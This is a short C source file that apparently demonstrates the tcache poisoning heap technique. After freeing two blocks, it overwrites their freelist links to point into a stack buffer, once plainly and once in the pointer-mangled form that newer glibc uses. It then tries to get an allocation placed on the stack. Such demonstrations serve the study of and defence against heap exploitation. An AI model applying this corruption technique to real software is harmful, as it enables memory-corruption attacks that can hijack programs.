/*
 * tcache_poisoning: the link of a freed block leads to the stack: as it is,
 * and as the mangled pointer that newer versions of glibc write.
 */
#include "technique.h"

int main(void)
{
    _Alignas(16) uint64_t stack[64] = {0};
    void *a = malloc(SMALL);
    void *b = malloc(SMALL);
    stack[1] = *size_word(a);
    free(opaque(a));
    free(opaque(b));
    *word_of(b, 0) = (uintptr_t)(stack + 2);
    *word_of(a, 0) = (uintptr_t)(stack + 2) ^ (uintptr_t)a >> 12;
    grab(SMALL, stack, sizeof stack);
    fails();
}
